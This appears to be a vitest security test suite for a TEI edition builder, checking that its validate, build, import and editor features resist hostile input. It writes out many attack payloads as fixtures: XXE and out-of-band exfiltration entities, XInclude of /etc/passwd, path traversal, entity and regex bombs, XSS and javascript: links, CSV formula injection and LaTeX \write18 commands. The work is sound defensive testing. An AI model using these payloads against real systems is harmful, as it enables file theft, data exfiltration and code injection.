import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, test } from 'vitest';
import { parse } from 'parse5';
import { runInProcess } from '../harness/in-process.ts';
import { tei } from '../harness/letters.ts';
import { amount } from '../harness/long.ts';
import { octavoMeasured } from '../harness/octavo.ts';
import { newFolder } from '../harness/scratch.ts';
import { para, run, wordFile } from '../import/docx-file.ts';
import { startEditor } from '../lsp/editor.ts';
import { outsideWorld, secret } from './outside-world.ts';

/**
 * Editions, schemas, templates and texts of strangers try to read files, to call out, to eat memory and to put code into what is built. A file with a
 * secret, a server that counts its calls and a limit of memory say whether they got anywhere.
 */

const outside = newFolder({
  'secret.txt': secret,
  'secret.xml': `<s>${secret}</s>`,
  'secret.rng': `<s>${secret}</s>`,
  'secret.dtd': `<!ENTITY s "${secret}">`,
  'secret.png': Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from(secret)]),
});
const far = pathToFileURL(outside).href;
const up = `../${outside.split('/').at(-1)!}`;

const world = outsideWorld();

type Files = Readonly<Record<string, string | Uint8Array>>;

const letter = (inside: string): string => tei(`<div type="document" xml:id="d1"><head>1</head>${inside}</div>`);
const before = (prologue: string, text = letter('<p>Words.</p>')): string => `${prologue}\n${text}`;
const typed = (subset: string, use = '<p>&x;</p>'): string => before(`<!DOCTYPE TEI ${subset}>`, letter(use));
const named = (href: string, more = ''): string => before(`<?xml-model href="${href}"${more}?>`);
const rng = (inside: string): string => `<grammar xmlns="http://relaxng.org/ns/structure/1.0">${inside}</grammar>`;
const any =
  '<start><ref name="any"/></start><define name="any"><element><anyName/><zeroOrMore><choice><text/><attribute><anyName/></attribute><ref name="any"/></choice></zeroOrMore></element></define>';
const schema = (inside: string): Files => ({ 'a.xml': named('s.rng'), 's.rng': rng(inside) });

/** Files that want to read what is not theirs, or to call out. */
const readers = (): Readonly<Record<string, Files>> => ({
  'an external entity': { 'a.xml': typed(`[<!ENTITY x SYSTEM "${far}/secret.txt">]`) },
  'an external entity of the web': { 'a.xml': typed(`[<!ENTITY x SYSTEM "${world.web}/x">]`) },
  'an external entity by a relative path': { 'a.xml': typed(`[<!ENTITY x SYSTEM "${up}/secret.txt">]`) },
  'an external entity with a public name': { 'a.xml': typed(`[<!ENTITY x PUBLIC "p" "${far}/secret.txt">]`) },
  'a parameter entity': { 'a.xml': typed(`[<!ENTITY % p SYSTEM "${far}/secret.dtd"> %p;]`, '<p>&s;</p>') },
  'a parameter entity that calls out': {
    'a.xml': typed(
      `[<!ENTITY % f SYSTEM "${far}/secret.txt"><!ENTITY % e "<!ENTITY &#37; c SYSTEM '${world.web}/?%f;'>"> %e; %c;]`,
    ),
  },
  'an external subset': { 'a.xml': typed(`SYSTEM "${world.web}/x.dtd"`, '<p>&s;</p>') },
  'an external subset of the disk': { 'a.xml': typed(`SYSTEM "${far}/secret.dtd"`, '<p>&s;</p>') },
  'an entity in an attribute': { 'a.xml': typed(`[<!ENTITY x SYSTEM "${far}/secret.txt">]`, '<p n="&x;">a</p>') },
  'an unparsed entity': {
    'a.xml': typed(
      `[<!NOTATION n SYSTEM "${world.web}/n"><!ENTITY x SYSTEM "${far}/secret.png" NDATA n>]`,
      '<graphic entity="x"/>',
    ),
  },
  'an entity in UTF-16': {
    'a.xml': Buffer.from(`\ufeff${typed(`[<!ENTITY x SYSTEM "${far}/secret.txt">]`)}`, 'utf16le'),
  },
  XInclude: {
    'a.xml': letter(
      `<p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${far}/secret.txt"/></p>`,
    ),
  },
  'XInclude of the password file': {
    'a.xml': letter('<p><include xmlns="http://www.w3.org/2001/XInclude" parse="text" href="/etc/passwd"/></p>'),
  },
  'XInclude of the web': {
    'a.xml': letter(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${world.web}/x.xml"/>`),
  },
  'XInclude by a relative path': {
    'a.xml': letter(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${up}/secret.xml"/>`),
  },
  'a stylesheet': { 'a.xml': before(`<?xml-stylesheet type="text/xsl" href="${world.web}/x.xsl"?>`) },
  'a base address': { 'a.xml': letter(`<p xml:base="${world.web}/"><graphic url="a.png"/></p>`) },
  'a schema of the web': { 'a.xml': named(`${world.web}/s.rng`) },
  'a schema of the disk': { 'a.xml': named(`${far}/secret.rng`) },
  'a schema by an absolute path': { 'a.xml': named(`${outside}/secret.rng`) },
  'a schema that is another file': {
    'a.xml': named(`${up}/secret.txt`, ' schematypens="http://relaxng.org/ns/structure/1.0"'),
  },
  'a schema location': {
    'a.xml': letter('<p>a</p>').replace(
      '<TEI',
      `<TEI xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.tei-c.org/ns/1.0 ${world.web}/x.xsd" xsi:noNamespaceSchemaLocation="${far}/secret.xml"`,
    ),
  },
  'a schema that includes one of the web': schema(`<include href="${world.web}/s.rng"/>`),
  'a schema that includes one by an absolute path': schema(`<include href="${outside}/secret.xml"/>`),
  'a schema that includes another file': schema(`<include href="${up}/secret.xml"/>`),
  'a schema that includes another file with a fragment': schema(`<include href="${up}/secret.txt#x.rng"/>`),
  'a schema with an external reference': schema(`<start><externalRef href="${far}/secret.xml"/></start>`),
  'a schema with an external reference by a relative path': schema(
    `<start><externalRef href="${up}/secret.xml"/></start>`,
  ),
  'a schema with a base address': schema(`<start><externalRef xml:base="${world.web}/" href="x.rng"/></start>`),
  'a schema with an entity': {
    'a.xml': named('s.rng'),
    's.rng': `<!DOCTYPE grammar [<!ENTITY x SYSTEM "${far}/secret.txt">]>${rng(`<start><value>&x;</value></start>`)}`,
  },
  'a datatype library of the web': schema(`<start><data type="x" datatypeLibrary="${world.web}/types"/></start>`),
  'a datatype library of the disk': schema(`<start><data type="secret" datatypeLibrary="${far}"/></start>`),
  'a compact schema that includes': {
    'a.xml': named('s.rnc'),
    's.rnc': `include "${up}/secret.xml"\ninclude "${world.web}/x.rnc"`,
  },
  'a compact schema with an external reference': {
    'a.xml': named('s.rnc'),
    's.rnc': `start = external "${outside}/secret.xml"`,
  },
  'an XML Schema that imports': {
    'a.xml': named('s.xsd'),
    's.xsd': `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import namespace="urn:x" schemaLocation="${world.web}/x.xsd"/><xs:include schemaLocation="${up}/secret.xml"/><xs:redefine schemaLocation="${far}/secret.xml"/><xs:element name="a"/></xs:schema>`,
  },
  'a catalogue': {
    'a.xml': named(`${world.web}/s.rng`),
    'catalog.xml': `<catalog xmlns="urn:oasis:names:tc:entity:xmlns:xml:catalog"><uri name="${world.web}/s.rng" uri="${up}/secret.rng"/><nextCatalog catalog="${world.web}/c.xml"/></catalog>`,
  },
  'images outside': {
    'a.xml': letter(
      [
        `${up}/secret.png`,
        `${up.replace('..', '%2e%2e')}/secret.png`,
        `${up}/secret.png`.replaceAll('/', '%2f'),
        `..\\..${outside}\\secret.png`,
        `${far}/secret.png`,
        `${outside}/secret.png`,
        `${world.web}/x.png`,
        `//localhost/x.png`,
        'x/../../secret.png',
      ]
        .map((url) => `<figure><graphic url="${url}"/></figure>`)
        .join(''),
    ),
  },
  'settings that name other folders': {
    'a.xml': letter('<p>a</p>'),
    'octavo.config.json': JSON.stringify({ exclude: [`${up}/**`], documents: `${up}`, id: `${up}/secret` }),
  },
  'a template that reads': {
    'a.xml': letter('<p>a</p>'),
    'templates/head.hbs': `<meta charset="utf-8"/>{{> ${up}/secret}}`,
  },
});

/** All that commands print and all that is in what they built. */
async function traces(folder: string): Promise<string> {
  const out = join(folder, 'dist');
  const said: string[] = [];
  for (const words of [
    ['validate', folder],
    ['build', folder, '--out', out, '--keep-going'],
    ['build', folder, '--out', out, '--format', 'json'],
  ] as const) {
    const session = await runInProcess([...words]);
    expect([0, 1, 2], session.said).toContain(session.code);
    said.push(session.out, session.said);
  }
  const files = existsSync(out)
    ? readdirSync(out, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
    : [];
  return [...said, ...files.map((entry) => readFileSync(join(entry.parentPath, entry.name), 'latin1'))].join('\n');
}

describe('what wants to read what is not its own', () => {
  test('gets nothing, and calls nobody', async () => {
    const step = amount(3, 1);
    const leaks: string[] = [];
    for (const [name, files] of Object.entries(readers()).filter((_, i) => i % step === 0)) {
      const told = await traces(newFolder(files));
      if (told.includes(secret) || told.includes('root:x:')) leaks.push(name);
    }
    expect(leaks).toEqual([]);
    expect(world.calls).toBe(0);
  });

  test('the canary sings where it is read', async () => {
    expect(await traces(newFolder({ 'a.xml': letter(`<p>${secret}</p>`) }))).toContain(secret);
    await fetch(world.web);
    expect(world.calls).toBe(1);
    world.calls = 0;
  });

  test('gets nothing by a link: of a schema, of the output folder, of the proof', async () => {
    const folder = newFolder({ 'a.xml': named('s.rng'), 'b.xml': letter('<p>b</p>') });
    symlinkSync(join(outside, 'secret.txt'), join(folder, 's.rng'));
    symlinkSync(join(outside, 'secret.txt'), join(folder, 'octavo.rng'));
    expect(await traces(folder)).not.toContain(secret);

    const other = newFolder({ 'keep.txt': 'keep' });
    const linked = newFolder({ 'a.xml': letter('<p>a</p>') });
    symlinkSync(other, join(linked, 'dist'));
    expect((await runInProcess(['build', linked, '--out', join(linked, 'dist')])).code).toBe(2);
    expect(readdirSync(other)).toEqual(['keep.txt']);

    const proven = newFolder({ 'a.xml': letter('<p>a</p>') });
    const victim = join(newFolder({ 'victim.txt': 'keep' }), 'victim.txt');
    const out = join(proven, 'dist');
    await runInProcess(['build', proven, '--out', out]);
    symlinkSync(victim, join(out, 'proof.json'));
    expect((await runInProcess(['verify', proven, '--out', out])).code).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('keep');

    const imported = newFolder({ 'a.txt': 'Letter 1\n\nText.\n' });
    symlinkSync(victim, join(imported, 'a.xml.part'));
    symlinkSync(victim, join(imported, 'a.decisions.json.part'));
    expect((await runInProcess(['import', join(imported, 'a.txt')])).code).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('keep');
  });

  test('gets nothing in an editor', async () => {
    const step = amount(6, 1);
    const editor = await startEditor();
    const shown: string[] = [];
    let version = 0;
    for (const [name, files] of Object.entries(readers()).filter((_, i) => i % step === 0)) {
      if (typeof files['a.xml'] !== 'string') continue;
      const folder = newFolder(files);
      const uri = await editor.open(join(folder, 'a.xml'), files['a.xml']);
      await editor.change(uri, ++version + 1, [{ text: files['a.xml'] }]);
      shown.push(name, JSON.stringify(await editor.diagnostics(uri, version + 1)));
      shown.push(JSON.stringify(await editor.hover(uri, { line: 3, character: 5 })));
      await editor.close(uri);
    }
    expect(await editor.leave()).toBe(0);
    expect(shown.length).toBeGreaterThan(8);
    expect(shown.join('\n')).not.toContain(secret);
    expect(world.calls).toBe(0);
  });
});

describe('what wants to eat memory and time', () => {
  const laughs = Array.from({ length: 12 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
  const references = Array.from(
    { length: 30 },
    (_, i) => `<define name="l${i + 1}"><group><ref name="l${i}"/><ref name="l${i}"/></group></define>`,
  ).join('');
  const bombs: Readonly<Record<string, Files>> = {
    'entities in entities': { 'a.xml': typed(`[<!ENTITY l0 "ha">${laughs}]`, '<p>&l12;</p>') },
    'parameter entities in parameter entities': {
      'a.xml': typed(
        `[<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;"><!ENTITY % c "%b;%b;%b;%b;%b;%b;"> %c;]`,
        '<p>a</p>',
      ),
    },
    'an entity within itself': { 'a.xml': typed('[<!ENTITY x "&y;"><!ENTITY y "&x;">]') },
    '100,000 nested elements': { 'a.xml': letter('<p>'.repeat(100_000)) },
    '100,000 attributes': {
      'a.xml': letter(`<p ${Array.from({ length: 100_000 }, (_, i) => `a${i}="b"`).join(' ')}>a</p>`),
    },
    'a name of a million characters': { 'a.xml': letter(`<${'n'.repeat(1_000_000)}/>`) },
    'definitions that double thirty times': schema(
      `<start><element><anyName/><ref name="l30"/></element></start><define name="l0"><optional><ref name="any"/></optional></define>${references}${any.replace(/<start>.*?<\/start>/, '')}`,
    ),
    'a definition within itself': schema(
      '<start><ref name="a"/></start><define name="a"><choice><ref name="a"/><text/></choice></define>',
    ),
    'a schema of 100,000 nested groups': schema(
      `<start>${'<group>'.repeat(100_000)}<text/>${'</group>'.repeat(100_000)}</start>`,
    ),
    'a pattern that goes wrong slowly': schema(
      `<start><element datatypeLibrary="http://www.w3.org/2001/XMLSchema-datatypes"><anyName/><data type="string"><param name="pattern">(((a*)*)*)*b|(a|aa)+c|(a{1,50}){1,50}</param></data></element></start>`,
    ),
    'a pattern that is huge': schema(
      `<start><element datatypeLibrary="http://www.w3.org/2001/XMLSchema-datatypes"><anyName/><data type="string"><param name="pattern">((a{1000}){1000}){1000}</param></data></element></start>`,
    ),
  };
  test('ends soon, within 700 MB', () => {
    const step = amount(5, 1);
    const large: string[] = [];
    for (const [name, files] of Object.entries(bombs).filter((_, i) => i % step === 0)) {
      const { code, said, megabytes } = octavoMeasured(['validate', newFolder(files)]);
      if (code !== 1 && code !== 0) large.push(`${name}: ended with ${code}: ${said.slice(0, 300)}`);
      if (!(megabytes > 10 && megabytes < 700)) large.push(`${name}: ${megabytes} MB`);
    }
    expect(large).toEqual([]);
  });
});

describe('names that become paths', () => {
  const ids = [
    '../../x',
    '/etc/x',
    '..',
    '.',
    'CON',
    'nul',
    'aux.txt',
    'com1',
    'a\\..\\b',
    'a:b',
    '%2e%2e%2f',
    'a?b#c',
    '-rf',
    '$(x)',
    'a&lt;b',
    'x'.repeat(400),
    'a b',
    '\u202ea',
    'LPT9.',
    '..%5c',
  ];
  test('stay in the output folder, and are files that every system can hold', async () => {
    const folder = newFolder({
      'in/a.xml': tei(
        ids.map((id) => `<div type="document" xml:id="${id}"><head>${id}</head><p>Words.</p></div>`).join('\n'),
      ),
    });
    const out = join(folder, 'out/dist');
    await runInProcess(['build', join(folder, 'in'), '--out', out, '--keep-going']);
    expect(readdirSync(folder).sort()).toEqual(['in', 'out']);
    expect(readdirSync(join(folder, 'out'))).toEqual(['dist']);
    const names = readdirSync(join(out, 'documents'));
    expect(names.length).toBe(ids.length);
    for (const name of names) {
      expect(name).toMatch(/^[\p{L}\p{N}_][\p{L}\p{N}._-]*\.html$/u);
      expect(name).not.toMatch(/^(?:con|nul|aux|prn|com\d|lpt\d)\./i);
      expect(Buffer.byteLength(name)).toBeLessThanOrEqual(255);
    }
  });
});

const evils = [
  '<script>evil()</script>',
  '"><img src=x onerror=evil()>',
  "'><svg onload=evil()>",
  '</title><script>evil()</script>',
  '</script><script>evil()</script>',
  '<!--<script>evil()',
  ']]><script>evil()</script>',
  '{{constructor}}{{{evil}}}',
  '\u2028\u2029evil()',
  '&lt;script&gt;evil()&lt;/script&gt;',
];
const links = [
  'javascript:evil()',
  ' JaVaScRiPt:evil()',
  'java&#10;script:evil()',
  'vbscript:evil()',
  'data:text/html,&lt;script>evil()&lt;/script>',
  'data:image/svg+xml,&lt;svg onload=evil()>',
  'blob:evil',
  'filesystem:evil',
];
const xml = (text: string): string =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

interface Node {
  readonly nodeName: string;
  readonly attrs?: readonly { readonly name: string; readonly value: string }[];
  readonly childNodes?: readonly Node[];
  readonly parentNode?: { readonly nodeName: string } | null;
}

/** What a browser would run or follow in a page: elements, handlers and addresses, with our own left out. */
function dangers(page: string): string[] {
  const found: string[] = [];
  let ours = 0;
  const visit = (node: Node): void => {
    const attributes = node.attrs ?? [];
    const value = (name: string): string => attributes.find((one) => one.name === name)?.value ?? '';
    if (/^(?:iframe|object|embed|base|form|svg|math|template|frame|applet|noscript)$/.test(node.nodeName))
      found.push(node.nodeName);
    // Data, and the one script of ours, at its one place.
    const isOurs =
      node.parentNode?.nodeName === 'head' && value('src') === '../script/page.js' && !node.childNodes?.length;
    if (node.nodeName === 'script' && value('type') !== 'application/ld+json' && (!isOurs || ++ours > 1))
      found.push('script');
    if (node.nodeName === 'meta' && /refresh/i.test(value('http-equiv'))) found.push('refresh');
    for (const { name, value: text } of attributes) {
      if (/^on|^srcdoc$/.test(name) || (name === 'style' && /evil|url|[<>"'\\]/i.test(text))) found.push(name);
      // What a browser takes out of an address before it reads its scheme.
      const address = text.replace(/[\u0000-\u0020]/g, '');
      if (
        /^(?:href|src|action|poster|cite|ping)$/.test(name) &&
        /^(?:javascript|vbscript|data|blob|filesystem):/i.test(address)
      )
        found.push(`${name}=${text}`);
    }
    node.childNodes?.forEach(visit);
  };
  visit(parse(page));
  return found;
}

describe('what wants to be code in what is built', () => {
  const stranger = (evil: string): string => {
    const e = xml(evil);
    return `<TEI xmlns="http://www.tei-c.org/ns/1.0" xml:lang="${e}"><teiHeader><fileDesc><titleStmt><title>${e}</title><author>${e}</author><editor>${e}</editor></titleStmt>
<publicationStmt><publisher>${e}</publisher><pubPlace>${e}</pubPlace><date when="${e}">${e}</date><availability><licence target="${e}">${e}</licence></availability><idno>${e}</idno></publicationStmt>
<sourceDesc><bibl><title>${e}</title></bibl></sourceDesc></fileDesc><profileDesc><langUsage><language ident="${e}">${e}</language></langUsage></profileDesc></teiHeader>
<standOff><listPerson><person xml:id="p1"><persName>${e}</persName><note>${e}</note></person></listPerson></standOff>
<text><body><div type="document" xml:id="d1" n="${e}"><head>${e}</head><opener><dateline><date when="${e}" from="${e}">${e}</date></dateline></opener>
<pb n="${e}" facs="${e}" xml:id="pb1"/><p rend="${e}" style="${e}" xml:lang="${e}" type="${e}" n="${e}">${e}<note n="${e}" xml:id="n1">${e}</note> <persName ref="#p1">${e}</persName>
<hi rend="${e}">a</hi> <foreign xml:lang="${e}">b</foreign> <unknown a="${e}">c</unknown> <gap reason="${e}"/> <formula notation="${e}">${e}</formula></p>
<figure><graphic url="${e}"/><figDesc>${e}</figDesc></figure><table><row role="${e}"><cell cols="${e}" rows="${e}">${e}</cell></row></table>
<list type="${e}"><item n="${e}">${e}</item></list></div></body></text></TEI>`;
  };

  test('is text in every page, in JSON-LD, in BibTeX, RIS and tables', async () => {
    const step = amount(2, 1);
    for (const evil of evils.filter((_, i) => i % step === 0)) {
      const folder = newFolder({
        'a.xml': stranger(evil),
        'octavo.config.json': JSON.stringify({ title: evil, licence: evil, version: evil, date: evil }),
      });
      const out = join(folder, 'dist');
      await runInProcess(['build', folder, '--out', out, '--keep-going']);
      const pages = [
        join(out, 'index.html'),
        ...readdirSync(join(out, 'documents')).map((name) => join(out, 'documents', name)),
      ];
      expect(pages.length).toBeGreaterThanOrEqual(2);
      for (const page of pages) {
        const text = readFileSync(page, 'utf8');
        expect(dangers(text), `${evil} in ${page}`).toEqual([]);
        for (const [, data] of text.matchAll(/<script type="application\/ld\+json">([^]*?)<\/script>/g))
          expect(typeof JSON.parse(data!)).toBe('object');
      }
    }
  });

  test('is no link', async () => {
    const folder = newFolder({
      'a.xml': letter(
        links
          .map(
            (url) =>
              `<p><ref target="${url}">a</ref><ptr target="${url}"/><graphic url="${url}"/><persName ref="${url}">b</persName><pb facs="${url}"/></p>`,
          )
          .join('\n'),
      ),
    });
    const out = join(folder, 'dist');
    await runInProcess(['build', folder, '--out', out, '--keep-going']);
    const page = readFileSync(join(out, 'documents/d1.html'), 'utf8');
    expect(page).toContain('evil');
    expect(dangers(page)).toEqual([]);
  });

  test('is no line, field or command in records and tables', async () => {
    const lines = 'A title&#10;ER  -&#10;TY  - BOOK&#10;TI  - evil&#10;@book{evil,';
    const commands = '\\input{/etc/passwd}\\write18{evil} }, evil = {x} % $ # _ ~ ^ \\end{document}';
    const folder = newFolder({
      'a.xml': letter('<p>a</p>')
        .replace('<head>1</head>', `<head>${lines} ${commands}</head>`)
        .replaceAll('<title>Letters</title>', `<title>=cmd|'/c calc'!A1 ${commands}</title><author>+1+1</author>`),
    });
    const out = join(folder, 'dist');
    await runInProcess(['build', folder, '--out', out, '--keep-going']);
    const ris = readFileSync(join(out, 'citations/d1.ris'), 'utf8');
    expect(ris.match(/^TY {2}- /gm)).toHaveLength(1);
    expect(ris.match(/^ER {2}- /gm)).toHaveLength(1);
    const bib = readFileSync(join(out, 'citations/d1.bib'), 'utf8');
    expect(bib.match(/^@/gm)).toHaveLength(1);
    expect(bib).not.toMatch(/\\(?:input|write|end)\b/);
    expect(bib).not.toMatch(/^\s*evil\s*=/m);
    const table = readFileSync(join(out, 'documents.csv'), 'utf8');
    expect(table).not.toMatch(/(?:^|,)"?[\s"]*[=+@-](?!\d)/m);
  });

  test('does not come in with a text that is imported', async () => {
    const html = `${evils.join('<p>')}<p onclick="evil()" style="x">text</p>${links.map((url) => `<a href="${url}">a</a><img src="${url}" alt="b">`).join('')}<iframe srcdoc="<script>evil()</script>"></iframe>`;
    const markdown = `# Letter\n\n${evils.join('\n\n')}\n\n${links.map((url) => `[a](<${url}>) ![b](<${url}>) <${url}>`).join('\n\n')}\n\n[r]: javascript:evil()\n\n[r]\n`;
    const word = wordFile({
      body: para(`${run(xml(evils.join(' ')))}<w:hyperlink r:id="j">${run('a')}</w:hyperlink>`),
      relations:
        '<Relationship Id="j" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:evil()" TargetMode="External"/>',
    });
    const folder = newFolder({
      'a.html': html,
      'b.md': markdown,
      'c.docx': word,
      'd.txt': `Letter 1\n\n${evils.join('\n\n')}\n`,
    });
    const to = join(folder, 'tei');
    mkdirSync(to);
    const { said } = await runInProcess([
      'import',
      ...['a.html', 'b.md', 'c.docx', 'd.txt'].map((name) => join(folder, name)),
      '--to',
      to,
    ]);
    expect(
      readdirSync(to).filter((name) => name.endsWith('.xml')),
      said,
    ).toHaveLength(4);
    const out = join(folder, 'dist');
    await runInProcess(['build', to, '--out', out, '--keep-going']);
    const pages = readdirSync(join(out, 'documents'));
    expect(pages.length).toBeGreaterThanOrEqual(4);
    for (const name of pages) expect(dangers(readFileSync(join(out, 'documents', name), 'utf8')), name).toEqual([]);
  });
});
